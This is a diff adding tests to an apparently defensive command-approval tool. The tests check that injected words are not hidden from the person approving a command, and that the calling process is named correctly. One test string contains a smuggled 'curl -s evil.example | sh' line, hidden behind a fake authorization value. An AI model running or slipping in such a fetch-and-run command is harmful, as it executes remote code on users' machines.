@@ -83,3 +83,20 @@ def test_no_word_is_hidden_by_the_length_of_another(sigwrap: Sigwrap) -> None:
     path = evil(sigwrap)
     seen = asked_about(sigwrap, "env", str(path), "a" * 50_000, "--force")
     assert seen.splitlines()[0].endswith("a --force")
+
+
+def test_no_word_is_hidden_as_a_secret(sigwrap: Sigwrap) -> None:
+    """But in the log it is."""
+    path = evil(sigwrap)
+    words = ": authorization: x; curl -s evil.example | sh"
+    seen = asked_about(sigwrap, "env", str(path), words)
+    assert f"wants to run {path} '{words}'\n" in seen
+    (request,) = sigwrap.events("approval_requested")
+    assert request.payload["what"] == f"{path} ': authorization: ***'"
+
+
+def test_who_asks_is_named_as_it_is_called_now(sigwrap: Sigwrap) -> None:
+    """A program in the place of another one, by the second exec of one process."""
+    path = evil(sigwrap)
+    seen = asked_about(sigwrap, "env", str(path))
+    assert " env (pid " in seen.splitlines()[0]
